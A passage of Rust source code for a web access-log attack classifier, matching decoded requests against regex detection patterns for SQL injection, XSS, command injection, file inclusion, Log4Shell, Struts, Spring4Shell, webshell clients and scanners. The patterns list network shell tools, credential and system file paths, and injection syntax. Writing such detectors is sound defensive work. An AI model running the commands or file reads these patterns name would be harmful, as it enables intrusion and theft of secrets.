//! Attack classes in web requests.
//!
//! The request target is URL-decoded until stable (see [`super::urldecode`]) and matched,
//! case-insensitively, against patterns per class: injection (SQL, XSS, OS commands, templates,
//! XML entities), file access (path traversal, local/remote file inclusion), exploit families
//! with fixed shapes (Log4Shell JNDI lookups, Struts OGNL, Spring4Shell class-loader properties,
//! ThinkPHP `invokefunction`, Shellshock function definitions), webshell management clients
//! (China Chopper, AntSword, Behinder, Godzilla), scanners by user agent, and reconnaissance
//! (404s on well-known admin paths, 400s with garbage request lines). The patterns are the
//! project's own, written from the published shape of each attack.
//!
//! Precision (docs/PRECISION.md, "Access logs"): the whole query is matched once as a
//! pre-filter; the injection classes are then confirmed parameter by parameter, by the value's
//! shape — a URL is judged as a path and a query, JSON by its strings, a base64/JWT token by
//! the text it decodes to — and the patterns ask for syntax (shell metacharacters before a
//! command, a break-out before SQL keywords, an expression inside template delimiters), not
//! for words that natural language, analytics beacons and OAuth redirects are full of.

use std::sync::LazyLock;

use regex::{Regex, RegexSet, RegexSetBuilder};
use serde::Serialize;

use super::parse::AccessRecord;
use super::urldecode::{decode_all, fold_separators};

/// One attack class.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum AttackClass {
    /// SQL injection.
    Sqli,
    /// Cross-site scripting.
    Xss,
    /// Directory traversal (`../`).
    PathTraversal,
    /// Local file inclusion / sensitive file read.
    Lfi,
    /// Remote file inclusion.
    Rfi,
    /// OS command injection.
    CmdInjection,
    /// Server-side template injection.
    Ssti,
    /// XML external entities.
    Xxe,
    /// Log4Shell JNDI lookup.
    Log4Shell,
    /// Apache Struts OGNL injection.
    StrutsOgnl,
    /// Spring4Shell class-loader manipulation.
    Spring4Shell,
    /// ThinkPHP remote code execution.
    ThinkPhp,
    /// Shellshock.
    Shellshock,
    /// Webshell management client traffic.
    WebshellClient,
    /// Vulnerability scanner or attack tool by user agent.
    Scanner,
    /// Probing for well-known admin/setup paths that do not exist here.
    Probe,
    /// Garbage or non-HTTP request line rejected with 400.
    BadRequest,
    /// Spam/harvester bot user agent.
    BadBot,
    /// Claims to be a search-engine crawler (verify by reverse DNS).
    CrawlerClaim,
}

impl AttackClass {
    /// Snake-case name.
    pub fn as_str(self) -> &'static str {
        match self {
            AttackClass::Sqli => "sqli",
            AttackClass::Xss => "xss",
            AttackClass::PathTraversal => "path_traversal",
            AttackClass::Lfi => "lfi",
            AttackClass::Rfi => "rfi",
            AttackClass::CmdInjection => "cmd_injection",
            AttackClass::Ssti => "ssti",
            AttackClass::Xxe => "xxe",
            AttackClass::Log4Shell => "log4shell",
            AttackClass::StrutsOgnl => "struts_ognl",
            AttackClass::Spring4Shell => "spring4shell",
            AttackClass::ThinkPhp => "thinkphp",
            AttackClass::Shellshock => "shellshock",
            AttackClass::WebshellClient => "webshell_client",
            AttackClass::Scanner => "scanner",
            AttackClass::Probe => "probe",
            AttackClass::BadRequest => "bad_request",
            AttackClass::BadBot => "bad_bot",
            AttackClass::CrawlerClaim => "crawler_claim",
        }
    }

    /// True for classes whose success acts on the server (a 2xx to one of them may mean the
    /// attacker got what was asked): not XSS (it acts in a visitor's browser) nor a bare `../`
    /// without a sensitive file (that is [`AttackClass::Lfi`]).
    pub fn acts_on_server(self) -> bool {
        self.is_exploit() && !matches!(self, AttackClass::Xss | AttackClass::PathTraversal)
    }

    /// True for classes that are exploitation attempts (not mere noise or recon).
    pub fn is_exploit(self) -> bool {
        !matches!(
            self,
            AttackClass::Scanner
                | AttackClass::Probe
                | AttackClass::BadRequest
                | AttackClass::BadBot
                | AttackClass::CrawlerClaim
        )
    }
}

/// Shell commands that are not also everyday words: after shell syntax (`;`, `|`, `&&`, a
/// backtick, `$(`, a newline) they are an injection whatever follows.
const STRONG_COMMANDS: &str = r"whoami|uname|ifconfig|ipconfig|netstat|nslookup|netsh|wget|ncat|netcat|nc|bash|zsh|ksh|csh|sh|powershell|cmd\.exe|certutil|bitsadmin|mshta|rundll32|regsvr32|tasklist|taskkill|wmic|vssadmin|xterm|nohup|xxd|printenv|systeminfo|sysinfo|crontab|useradd|adduser|chmod|chown|traceroute|tracert|phpinfo|telnet|tftp|pwd|sudo|gcc";

/// Commands that are also words (`cat`, `id`, `del`, `type`, `find` …): after shell syntax they
/// count only with an argument that looks like a command line's (a flag, a path, a URL, a quote,
/// more shell syntax, or nothing).
const WEAK_COMMANDS: &str = r"id|sh|nc|ls|rm|cat|dir|del|echo|ping|sleep|curl|python\d?|perl|ruby|php|node|java|dig|host|net|ps|kill|mkdir|touch|cp|mv|ftp|ssh|hostname|type|find|grep|which|whereis|locate|env|set|export|cmd|query|reg|sc|base64|od|head|tail|more|less|awk|sed|tar|gzip|exec|system|eval|copy|ver|vol|path|route|arp|w|who|last|mail|lynx|fetch|cc|make|passwd|su|exit";

/// What makes a weak command a command: end of value, shell syntax, or an argument shaped like
/// a command line's.
const WEAK_TAIL: &str = r##"(?:\s*$|\s*[;|&`)$<>\\]|\s*['"](?:$|[^a-z])|\.exe\b|\s+(?:-{1,2}[a-z]|/|[a-z]:(?:[\\/]|\s|$)|\\\\|https?://|%[a-z_]+%|\d+(?:\.\d+){0,3}\s*(?:$|[;|&`'"#])|\$))"##;

/// Shell syntax that starts a new command.
const SHELL_START: &str = r"(?:[;|`\n\r&]|\\n|\\r|\$\()";

/// Patterns over one decoded, lower-cased parameter value (and, as a cheap pre-filter, over the
/// whole decoded query, where `&` and `=` may also separate parameters).
const TARGET_PATTERNS: &[(AttackClass, &str)] = &[
    // SQL injection. Natural language has `select`, `union`, `order by`: a keyword counts with
    // a break-out before it (quote, bracket, number) or SQL syntax after it.
    (
        AttackClass::Sqli,
        r#"(?:['"\d)]|--|#|\*/)\s*(?:/\*.*?\*/|\s|\()*union(?:\s|/\*.*?\*/|\(|\+)+(?:all\s+|distinct\s+)?(?:\(\s*)?select\b|union(?:\s|/\*.*?\*/|\(|\+)+(?:all\s+|distinct\s+)?(?:\(\s*)?select(?:\s|/\*.*?\*/|\()*(?:[\d(@'"*-]|null\b|0x|[a-z_]+\s*\(|[a-z0-9_.]+\s*(?:,|\bfrom\b))"#,
    ),
    (
        AttackClass::Sqli,
        r#"(?:['"\d(;]|\b(?:and|or|union)\s)\s*select\b[\s\S]{1,200}?\bfrom\b[\s\S]{0,100}?\b(?:information_schema|mysql\.|sys\.|dual|pg_|master\.|sysobjects|syscolumns|users?|all_tables|user_tables|v\$)|\bselect\s+(?:\*|[a-z_]+\s*\(|[a-z0-9_.]+\s*,)[\s\S]{0,200}?\bfrom\s+(?:information_schema|mysql\.|sys\.|dual|pg_|master\.|sysobjects|syscolumns|all_tables|user_tables|v\$)"#,
    ),
    (
        AttackClass::Sqli,
        r#"\bselect\s+(?:@@|user\s*\(|database\s*\(|version\s*\(|schema_name|\*\s+from|count\s*\(|char\s*\(|concat)|(?:['"\d(;]|\b(?:and|or)\s)\s*select\s+(?:banner|password|username|loginame|name\s+from|current_user|system_user)"#,
    ),
    (
        AttackClass::Sqli,
        r#"(?:'|"|\)|\d)\s*(?:or|and|xor|\|\||&&)\s*(?:not\s+)?(?:'[^']*'|"[^"]*"|\d+|true|false|\(|[a-z_]+\s*\()\s*(?:=|<|>|like\s*['"%]|is\s+(?:not\s+)?null|between\s+\S+\s+and|rlike|regexp|in\s*\()"#,
    ),
    (
        AttackClass::Sqli,
        r#"(?:'|"|\))\s*(?:or|and|\|\|)\s*(?:'|")?[a-z0-9_]*(?:'|")?\s*(?:--|#|/\*)"#,
    ),
    (
        AttackClass::Sqli,
        r#"(?:'|"|\d|\))\s*(?:--(?:\s|$|[-+&])|#|/\*|;\s*--)"#,
    ),
    (
        AttackClass::Sqli,
        r#"\b(?:sleep|benchmark|pg_sleep|dbms_pipe\.receive_message|randomblob|extractvalue|updatexml|load_file|utl_inaddr|utl_http|dbms_\w+|xp_cmdshell|xp_dirtree|sp_executesql|sp_password|sp_oacreate|sp_makewebtask|openrowset|opendatasource|get_host_name|name_const|geometrycollection|multipoint|polygon|gtid_subset|json_keys|ctxsys\.\w+|sys\.dba_\w+|sysdate)\s*\(|\bwaitfor\s+delay\s*['"\d]|\bexec\s+master\b"#,
    ),
    (
        AttackClass::Sqli,
        r#"\b(?:into\s+(?:out|dump)file|information_schema|@@version|@@servername|@@hostname|@@datadir|@@basedir|sysobjects|syscolumns|sysusers|msysobjects|pg_shadow|pg_user|pg_database|all_users|user_objects|v\$version|sqlite_master|mysql\.user|order\s+by\s+\d+\s*(?:--|#|/\*|$)|group\s+by\s+\d+\s*(?:--|#|/\*|$|,)|having\s+\d+\s*=\s*\d+|;\s*(?:select\s+(?:[\d*@'"(]|[a-z_.]+\s*(?:\(|,|\bfrom\b))|insert\s+into|update\s+\w+\s+set|delete\s+from|drop\s+(?:table|database|user|view)|create\s+(?:table|user|database)|alter\s+table|exec(?:ute)?\s+(?:master|xp_|sp_|\(|@)|declare\s+@|shutdown\b|truncate\s+table|waitfor\s+delay|grant\s+\w+\s+to\b)|\bcast\s*\([^)]{1,100}\bas\s+(?:n?char|n?varchar|int|integer|signed|unsigned|text|numeric|decimal|bigint|binary)\b|\bconvert\s*\(\s*int|char\s*\(\s*\d+\s*\)\s*(?:\+|\|\||,)|[\s(,]0x[0-9a-f]{8,}|\bcase\s+when\s+[^&]{1,60}?(?:[=<>]|\bis\s|\blike\s)[^&]{0,60}?\bthen\b|\bif\s*\(\s*\d+\s*=\s*\d+|(?:select|\(|,)\s*null\s*,\s*null\b|admin'\s*(?:--|#|/\*)|'\s*=\s*'|\bor\s+\d+\s*=\s*\d+|\band\s+\d+\s*=\s*\d+|'\s*\|\|\s*'|\bexec\s*\(\s*@|\bdeclare\s+@|%\s*'|' *;|\blike\s*'%)"#,
    ),
    (
        AttackClass::Sqli,
        r#"\bor\s+[a-z0-9_]+\s*=\s*[a-z0-9_]+|\bselect\s+(?:current_setting|current_database|session_user|version)\b|\b(?:create|drop|alter)\s+(?:table|user|database|view)\s+(?:if\s+(?:not\s+)?exists|[`'"\[]|[\w.]+\s*(?:\(|;|--|#|/\*))|\binsert\s+into\s+[`'"\w.]+\s*(?:\(|values\b|select\b)|\bgrant\s+[\w\s,]{1,60}\bon\s+\S+\s+to\b|@@[a-z_]+|\bsubstring\s*\(|\bis\s+null\s*;|(?:^|[=&])\s*(?:'|"|`|\\|''|""|``|'\\"|\\\\|'"|"')\s*(?:$|&)|'\s*(?:or|and|like)\s*['"](?:$|&|\s*[-#)=])|(?:^|[=&])\s*'\s*(?:or|and|like)\s*['"]|(?:^|[=&])\s*\d+'\s*(?:$|&)|'\s*[-&^*|+=]\s*'|'\s*like\s*'|(?:^|[=&])\s*(?:and|or)\s+(?:\d+|true|false)\b|\d+\s*-\s*(?:true|false)\b|\)\s*(?:or|and)\s*\(+\s*['"]|\|\|\s*[a-z_]+\.[a-z_]+\s*\(|\bbackup\s+database\b|\bexec\s+(?:sp_|xp_|master)"#,
    ),
    // XSS
    (
        AttackClass::Xss,
        r"<\s*/?\s*(?:script|iframe|img|svg|body|object|embed|applet|meta|link|style|form|input|video|audio|marquee|details|math|base|frameset|frame|isindex|textarea|keygen|xss|a\s|div|table|td|bgsound|layer|ilayer|html|xml|image|select|button|plaintext|x\s|animate|set|source|template|title)\b",
    ),
    (
        AttackClass::Xss,
        r"(?:javascript|vbscript|livescript|mocha|data\s*:\s*text/html|data\s*:\s*image/svg)\s*:",
    ),
    (
        AttackClass::Xss,
        r#"(?:^|[\s"'`/;=&])on(?:abort|activate|after|animation|auxclick|before|begin|blur|bounce|can|cell|change|click|close|context|control|copy|cue|cut|data|dbl|deactivate|drag|drop|duration|emptied|end|error|filter|finish|focus|form|fullscreen|gesture|hash|help|input|invalid|key|language|layout|load|lose|media|message|mouse|move|moz|offline|open|outofsync|page|paste|pause|play|pointer|popstate|progress|property|rate|readystate|redo|repeat|reset|resize|resume|reverse|row|scroll|search|seek|select|show|stalled|start|stop|storage|submit|suspend|sync|time|toggle|touch|track|transition|undo|unload|url|volume|waiting|webkit|wheel|zoom)[a-z]*\s*=|\bstyle\s*=[^>]*expression\s*\(|\b(?:alert|prompt|confirm)\s*(?:\(\s*(?:[\d'"`/)\[]|document|window|this|self|top|location|string|xss)|`)|document\s*\.\s*(?:cookie|domain|write|location)|window\s*\.\s*location|string\s*\.\s*fromcharcode|\beval\s*\(|&#x?[0-9a-f]+;?\s*&#|<!--|\]\]>|\\u003c|\\x3c|&lt;\s*script|\bsrcdoc\s*=|\bxlink:href|\bformaction\s*=|\bbackground\s*=\s*['"]?javascript|\bseeksegmenttime|\bgeturl\s*\(|asfunction:|\b(?:top|self|parent)\[|\bfetch\(\s*['"`/]|\bimport\(\s*['"`]"#,
    ),
    (
        AttackClass::Xss,
        r#"<\s*/?\s*[a-z][a-z0-9:_-]*[\s/][^>]*?\b(?:on[a-z]+|src|href|style|action|formaction|data|xlink:href)\s*=|<[!?%]|\b(?:alert|prompt|confirm)\s*(?:&\w+;|&#x?[0-9a-f]+;?)|=\s*(?:alert|prompt|confirm)\s*[,;]|data\s*:\s*text/html|data\s*:[^,]{0,40};base64|fscommand|navigator\s*\.|window\s*\.\s*open|\blocation(?:\.href)?\s*=\s*(?:['"`/]|name\b|atob|javascript)|\$\(\s*["']|\.click\s*\(|@font-face|\burl\s*\(\s*['"]?\s*(?:javascript|vbscript|data|//)|#default#|\bdatasrc\b|\bdatafld\b|\bxmlns\b|(?:\+|\s)adw-[a-z/]|\((?:alert|prompt|confirm)\)\s*\(|\.\w+\(\s*(?:alert|prompt|confirm)\s*\)|</?(?:applet|area|audio|base|basefont|bgsound|body|button|canvas|details|dialog|embed|fieldset|form|frame|frameset|head|html|iframe|img|image|input|isindex|keygen|layer|ilayer|link|listing|map|marquee|math|meta|noembed|noframes|noscript|object|optgroup|option|param|picture|plaintext|script|select|slot|source|style|svg|table|template|textarea|title|track|video|xmp|xml|xss|x|animate\w*|set|circle|ellipse|line|path|polygon|polyline|rect|defs|use|fe[a-z]+|foreignobject|handler|xsl:[a-z-]+)(?:\s[^<>]*)?/?>|(?:&lt;?|&#0*60;?|&#x0*3c;?)(?:$|&|\s*/?[a-z!])|\xbc\s*/?\s*(?:script|img|svg|iframe)|\bfunction\s*\w*\s*\([^)]{0,40}\)\s*\{|(?:^|[=&])\s*on(?:abort|activate|afterprint|afterupdate|animation\w*|auxclick|before\w+|begin|blur|bounce|canplay\w*|cellchange|change|click|contextmenu|controlselect|copy|cut|dataavailable|datasetchanged|datasetcomplete|dblclick|deactivate|drag\w*|drop|durationchange|emptied|end|ended|error|errorupdate|filterchange|finish|focus\w*|fullscreenchange|hashchange|help|input|invalid|key\w+|layoutcomplete|load\w*|losecapture|mediacomplete|mediaerror|message|mouse\w*|move\w*|mozfullscreen\w*|outofsync|paste|pause|play\w*|popstate|progress|propertychange|ratechange|readystatechange|redo|repeat|reset|resize\w*|resume|reverse|row\w*|scroll|seek\w*|select\w*|show|stalled|start|stop|storage|submit|suspend|syncrestored|timeerror|timeupdate|toggle|touch\w*|trackchange|transition\w*|undo|unload|urlflip|volumechange|waiting|webkit\w*|wheel|pointer\w*|page(?:show|hide)|cuechange|visibilitychange|afterscriptexecute|beforescriptexecute)\s*(?:$|&)"#,
    ),
    // Path traversal
    (
        AttackClass::PathTraversal,
        r"(?:\.\.|\.\?|\?\.)[/\\;]|[/\\]\.\.(?:$|[?&#\s])|\.\.(?:%00|\x00|%c0|%c1|%e0|%f0)|\.{3,}[/\\]|(?:\.\.|%2e%2e)(?:%2f|%5c|%u2215|%u2216)|(?:%2e|\.){2}(?:%2f|%5c)",
    ),
    // Local file inclusion / sensitive files: a file no web page is named after, anywhere after
    // a separator.
    (
        AttackClass::Lfi,
        r#"(?:^|[=/\\'"\s:]|\.\.)(?:etc/(?:passwd|shadow|group|hosts|issue|motd|bashrc|profile|crontab|fstab|mtab|inittab|resolv\.conf|sudoers|ssh/|httpd|apache|nginx|mysql|php|init\.d|network|security|master\.passwd|pwd\.db|spwd\.db|login\.defs|syslog|redhat-release|debian_version|lsb-release|os-release|hostname|exports|ftp|samba|proftpd|pure-ftpd|vsftpd|wu-ftpd|x11|cups|updatedb|knockd|chrootusers|logrotate|my\.cnf|lighttpd|sysconfig|environment)|proc/(?:self|\d+|version|cpuinfo|meminfo|mounts|net|sched_debug|interrupts|loadavg|partitions|stat|swaps|modules|cmdline|filesystems|devices|ioports|kcore)|var/(?:log|lib|mail|spool|run|www|apache|db|adm|cpanel|lighttpd)/|usr/(?:local|lib|share|etc|pkg|ports|sbin|bin|spool)/|root/\.|dev/(?:null|zero|random|fd|tty)|boot\.ini|win\.ini|system\.ini|windows[/\\]|winnt[/\\]|inetpub[/\\]|documents\s+and\s+settings|system32|autoexec\.bat|config\.sys|php\.ini|httpd\.conf|\.htaccess|\.htpasswd|web\.config|wp-config\.php|config\.inc\.php|\.bash_history|\.ssh/|id_rsa|id_dsa|authorized_keys|\.env\b|access[._-]log\b|error[._-]log\b)"#,
    ),
    (
        AttackClass::Lfi,
        r"(?:php|file|zip|phar|glob|data|expect|input|compress\.zlib|compress\.bzip2|ogg|rar|ssh2|zlib|jar|netdoc|gopher|dict)://|php://(?:filter|input|fd|memory|temp)|convert\.(?:base64|iconv|quoted)|%00|\x00|[a-z]:\\|[a-z]:/(?:windows|winnt|boot|inetpub|program|users|documents|xampp|wamp|apache|php)|\\\\[a-z0-9.]+\\",
    ),
    // A value that is an absolute path under a system directory no web route is named after.
    (
        AttackClass::Lfi,
        r#"(?:^|[=&])\s*(?:/+(?:etc|proc|var|usr|root|dev|sys|boot|bin|sbin|lib64|windows|winnt|inetpub)(?:/|\\|$|&)|[a-z]:(?:\\|/[^/]))|\.\.2f|2fetc2f|etc[/\\]+[a-z_.-]+(?:passwd|shadow|conf|cnf|ini)\b"#,
    ),
    // OS command injection: shell syntax, then a command.
    (AttackClass::CmdInjection, "@STRONG@"),
    (AttackClass::CmdInjection, "@WEAK@"),
    (
        AttackClass::CmdInjection,
        r#"\$\{ifs\}|\$ifs\$|(?:^|[=&])\s*(?:\||\|\||&&|&|;|`|'|"|\\n|\\r|\n|\r|\$\()+\s*(?:$|&)|/bin/(?:ba)?sh\b|cmd(?:\.exe)?\s*/c\b|>\s*/dev/|<!--#exec|\bsystem\s*\(|\bexec\s*\(|\bpassthru\s*\(|\bshell_exec\s*\(|\bpopen\s*\(|\bproc_open\s*\(|\bphpinfo\s*\(|\bphpversion\s*\(|\bos\.system|\bos\.popen|\bsubprocess\.|\bruntime\b[^&]*\bexec|\bperl\s+-e\b|\bpython\d?\s+-c\b|\bpowershell(?:\.exe)?\s+-|\bnet\s+(?:user|localgroup|view|share|use|group)\b|\{\$\{|\$\{@?(?:print|system|eval|phpinfo|sleep)|\b(?:eval|assert)\s*\(\s*['"$]|\$_(?:get|post|request|cookie|server|files)\s*\[|(?:^|\s)>{1,2}\s*[\w./\\-]+\.(?:php\d?|phtml|jsp|aspx?|sh|pl|py|cgi|txt|html?)\b|\breg(?:\.exe)?\s+(?:add|query|delete|save|export)\s+['"]?hk|(?:^|[=&])\s*(?:whoami|uname(?:\s+-a)?|ifconfig|ipconfig|sysinfo|systeminfo|netstat|tasklist|printenv)\s*(?:$|&)|(?:^|[=&;|`])\s*(?:which|whereis|command\s+-v)\s+(?:python\d?|perl|ruby|php|gcc|cc|nc|ncat|netcat|wget|curl|bash|sh|socat|telnet|nmap)\s*(?:$|&)"#,
    ),
    // A value that is a command line: a command, then a flag, a path or a URL.
    (AttackClass::CmdInjection, "@LINE@"),
    // SSTI: template delimiters around an expression (a bare `{{name}}` or `${var}` is a
    // client-side macro or a shell variable, not an injection).
    (
        AttackClass::Ssti,
        r#"(?:\{\{(?:[^}|#]{0,300}?)|(?:\$\{|#\{|\*\{|@\()[^}]{0,300}?)(?:\d\s*[*+/%-]\s*\d|\d\s+\d|\(|__|'|"|\{|\b(?:config|self|request|settings|app|cycler|joiner|namespace|lipsum|range|dict|url_for|get_flashed_messages|class|getclass|runtime|exec|product|object)\b)|\{%[\s\S]{0,300}%\}|<%=?[\s\S]{1,200}%>|__class__|__mro__|__subclasses__|__globals__|__builtins__|__import__|\bt\(java\.lang|freemarker\.template|\.getclass\(\)"#,
    ),
    // XXE
    (
        AttackClass::Xxe,
        r"<!doctype[^>]*\[|<!entity|<!element|<!attlist|\bsystem\s+['\x22](?:file|http|https|ftp|php|expect|jar|netdoc|gopher)://|<\?xml\b|<xi:include|xmlns:xi=|<!\[cdata\[",
    ),
    // Log4Shell
    (
        AttackClass::Log4Shell,
        r"\$\{(?:[^}]{0,40}\$\{)*[^}]{0,40}(?:j|\$\{[^}]{0,30}\})[\s\S]{0,60}?(?:n|\$\{[^}]{0,30}\})[\s\S]{0,60}?(?:d|\$\{[^}]{0,30}\})[\s\S]{0,60}?(?:i|\$\{[^}]{0,30}\})[\s\S]{0,60}?:|\$\{(?:jndi|lower|upper|env|sys|java|date|ctx|main|bundle|marker|sd|map|k8s|docker|spring|log4j|base64|web|::-):",
    ),
    // Struts OGNL
    (
        AttackClass::StrutsOgnl,
        r"%\{|\(#_memberaccess|#_memberaccess|@ognl\.ognlcontext|ognl\.ognlcontext|#context\[|xwork\.methodaccessor|allowstaticmethodaccess|#application\[|redirect(?:action)?:\$\{|action:\$\{",
    ),
    // Spring4Shell / Spring
    (
        AttackClass::Spring4Shell,
        r"class\.module\.classloader|class\.classloader|\.classloader\.resources\.context|\[class\]\.classloader",
    ),
    // ThinkPHP
    (
        AttackClass::ThinkPhp,
        r"\\think\\(?:app|container|request|template|view)|think\\app/invokefunction|invokefunction&function=call_user_func|s=/?index/\\?think|_method=__construct|filter\[\]=(?:system|assert|call_user_func)|vars\[1\]\[\]=",
    ),
    // Shellshock in the target
    (AttackClass::Shellshock, r"\(\s*\)\s*\{\s*:?\s*;?\s*\}\s*;"),
    // Webshell clients in the target
    (
        AttackClass::WebshellClient,
        r"[?&]z[0-9]=|@eval\(\s*(?:base64_decode\s*\(\s*)?\$_post|[?&]pass=\d{1,4}$|[?&](?:caidao|chopper|antsword|cknife|behinder|godzilla)\b|\bx@ster|\bant=@eval",
    ),
];

/// The target patterns with the command lists filled in.
fn target_patterns() -> Vec<(AttackClass, String)> {
    let path = r"(?:/?(?:usr/)?(?:local/)?s?bin/)?";
    TARGET_PATTERNS
        .iter()
        .map(|(c, p)| {
            let p = match *p {
                "@STRONG@" => format!(
                    r#"{SHELL_START}\s*{path}(?:{STRONG_COMMANDS})(?:$|[\s;&|`'"<>(){{}}$,\\]|\.exe|\$\{{ifs\}})"#
                ),
                "@WEAK@" => format!(r"{SHELL_START}\s*{path}(?:{WEAK_COMMANDS}){WEAK_TAIL}"),
                "@LINE@" => format!(
                    r#"(?:^|[=&'"])\s*{path}(?:{STRONG_COMMANDS}|{WEAK_COMMANDS})(?:\.exe)?\s+(?:-{{1,2}}[a-z]|/|[a-z]:(?:[\\/]|\s|$)|\\\\|https?://|%[a-z_]+%|\$[a-z_{{(])|['"]\s*(?:{STRONG_COMMANDS})(?:$|\s)|(?:^|[=&'"])\s*(?:sleep|ping|timeout)\s+\d+\s*$|(?:^|[=&\s'"])/(?:usr/)?(?:local/)?s?bin/[a-z]"#
                ),
                p => p.to_string(),
            };
            (*c, p)
        })
        .collect()
}
const UA_PATTERNS: &[(AttackClass, &str)] = &[
    (
        AttackClass::Scanner,
        r"sqlmap|nikto|nmap|masscan|zgrab|dirsearch|gobuster|dirbuster|nuclei|fscan|wpscan|acunetix|netsparker|nessus|openvas|w3af|arachni|skipfish|ffuf|fuzz faster|feroxbuster|wfuzz|whatweb|hydra|medusa|commix|xsser|jaeles|xray|goby|awvs|appscan|burp|zmeu|morfeus|paros|webinspect|qualys|vega/|nsfocus|jorgee|zmap|censys|httpx|subfinder|python-requests|go-http-client|libwww-perl|masscan|hello, world|sysscan|dotdotpwn|struts-pwn|ysoserial|metasploit|havij|pangolin|bbqsql|grabber|webshag|uniscan|owasp|nuclei|scanbot|l9explore|l9tcpid|webfuzz",
    ),
    (
        AttackClass::WebshellClient,
        r"antsword|caidao|chopper|cknife|behinder|godzilla|weevely|altman",
    ),
    (
        AttackClass::BadBot,
        r"trackback/|emailcollector|emailsiphon|emailwolf|extractorpro|webbandit|webemailextrac|atspider|cherrypicker|crescent|emailmagnet|microsoft url control|mozilla/3\.mozilla/2\.01|newt activex|nicerspro|zeus|webzip|takeout|bullseye|copyrightcheck|franklin locator|mailto:craftbot|program shareware|telesoft|true_robot|wisenutbot|frontpage|dts agent|ecollector|indy library|web image collector|httrack",
    ),
    (
        AttackClass::CrawlerClaim,
        r"googlebot|bingbot|baiduspider|yandexbot",
    ),
    (AttackClass::Shellshock, r"\(\s*\)\s*\{\s*:?\s*;?\s*\}\s*;"),
    (
        AttackClass::Log4Shell,
        r"\$\{(?:jndi|lower|upper|env|sys|::-|\$\{)",
    ),
    (
        AttackClass::Sqli,
        r"union\s+(?:all\s+)?select|\bsleep\s*\(\s*\d|'\s*or\s*'1'\s*=\s*'1",
    ),
];

/// Paths scanners probe for (admin panels, setup scripts, leaked files); a 4xx on one of them is
/// reconnaissance.
static PROBE: LazyLock<Regex> = LazyLock::new(|| {
    crate::fastre::new(r"(?i)^/+(?:(?:admin|administrator|cgi-bin|scripts|db|mysql|tools|web|www|old|new|backup)/)?(?:phpmyadmin|pma|myadmin|mysqladmin|mysql|phpmy|sqlweb|websql|dbadmin|db|admin/pma|admin/phpmyadmin|webmail|mail|mails|extmail|roundcube|rcube|squirrelmail|horde|v-?webmail|pmapper|wp-login\.php|wp-admin|xmlrpc\.php|administrator|manager/html|jmx-console|web-console|invoker|axis2|solr|actuator|\.env|\.git|\.svn|\.ds_store|cgi-bin|scripts/setup\.php|setup\.php|install\.php|shell\.php|cmd\.php|webdav|hnap1|boaform|vendor/phpunit|console|_ignition|owa|autodiscover|ecp|remote/login|dana-na|global-protect|tmui|\.well-known/security|server-status|config\.php|wp-config|backup|bak|old|test\.php|info\.php|phpinfo\.php|telescope|druid|nacos|struts|weblogic|wls-wsat|_async|solr|jenkins|hudson|owncloud|nextcloud|zabbix|cacti|nagios|muieblackcat|w00tw00t|azenv\.php|timthumb\.php|kerbynet)")
        .expect("static regex")
});

static TARGET_SETS: LazyLock<Vec<(AttackClass, Regex)>> = LazyLock::new(|| {
    target_patterns()
        .iter()
        .map(|(c, p)| {
            (
                *c,
                crate::fastre::new(&format!("(?i){p}")).expect("static regex"),
            )
        })
        .collect()
});

/// All target patterns at once. The lazy DFA gets a bigger cache than the default: with the
/// default 2 MiB these 30 case-insensitive patterns do not fit, the engine falls back to the
/// PikeVM for every line, and classification ran 40–60× slower (85 % of the log time).
static TARGET_SET: LazyLock<RegexSet> = LazyLock::new(|| {
    RegexSetBuilder::new(
        target_patterns()
            .iter()
            .map(|(_, p)| crate::fastre::ascii_classes(&format!("(?i){p}"))),
    )
    .dfa_size_limit(32 << 20)
    .build()
    .expect("static regex")
});

/// Classes whose patterns are also meaningful in the path itself (the others only in the query:
/// a path like `/lib/bin/x.js` is not a file-inclusion attempt).
fn path_capable(class: AttackClass) -> bool {
    matches!(
        class,
        AttackClass::PathTraversal
            | AttackClass::Log4Shell
            | AttackClass::StrutsOgnl
            | AttackClass::Spring4Shell
            | AttackClass::ThinkPhp
            | AttackClass::Shellshock
            | AttackClass::Xss
            | AttackClass::Sqli
    )
}

/// Classes judged per parameter value (the injection classes); the others have fixed shapes
/// (exploit families, webshell clients) and are judged on the whole query, across parameters.
fn value_class(class: AttackClass) -> bool {
    matches!(
        class,
        AttackClass::Sqli
            | AttackClass::Xss
            | AttackClass::PathTraversal
            | AttackClass::Lfi
            | AttackClass::CmdInjection
            | AttackClass::Ssti
            | AttackClass::Xxe
    )
}

static UA_SET: LazyLock<Vec<(AttackClass, Regex)>> = LazyLock::new(|| {
    UA_PATTERNS
        .iter()
        .map(|(c, p)| {
            (
                *c,
                crate::fastre::new(&format!("(?i){p}")).expect("static regex"),
            )
        })
        .collect()
});

/// The classes of one request, with the decoded target they were found in.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct Classification {
    /// Classes found (sorted, unique).
    pub classes: Vec<AttackClass>,
    /// The decoded target.
    pub decoded: String,
    /// Number of URL-decoding rounds that changed the target (2+ = double encoding).
    pub decode_rounds: usize,
}

/// Classifies a decoded string (a query or any request-derived text): every class applies.
pub fn classify_text(decoded: &str, out: &mut Vec<AttackClass>) {
    classify_scoped(decoded, false, out);
}

fn push(out: &mut Vec<AttackClass>, class: AttackClass) {
    if !out.contains(&class) {
        out.push(class);
    }
}

fn classify_scoped(decoded: &str, path_only: bool, out: &mut Vec<AttackClass>) {
    if decoded.is_empty() {
        return;
    }
    let matches = TARGET_SET.matches(decoded);
    if !matches.matched_any() {
        return;
    }
    for i in matches.iter() {
        let class = TARGET_SETS[i].0;
        if path_only && !path_capable(class) {
            continue;
        }
        push(out, class);
    }
}

/// How deep values nest (a URL in a parameter whose query has a JSON value …).
const MAX_NESTING: usize = 3;
/// Longest value parsed as JSON or decoded as base64 (longer ones are read as plain text).
const MAX_STRUCTURED: usize = 64 * 1024;

/// Classifies the query (`raw` without the `?`, still encoded). The whole decoded query is the
/// pre-filter: most queries match no pattern at all and cost one pass. When an injection class
/// matches somewhere, each parameter is judged on its own, with its shape in mind: a URL, JSON,
/// a base64 or JWT token, or plain text.
fn classify_query(raw: &str, depth: usize, out: &mut Vec<AttackClass>) {
    if raw.is_empty() {
        return;
    }
    let (query, _) = decode_all(raw);
    let query = fold_separators(&query);
    let matches = TARGET_SET.matches(&query);
    // A URL in a parameter matters on its own only as a remote-file-inclusion candidate.
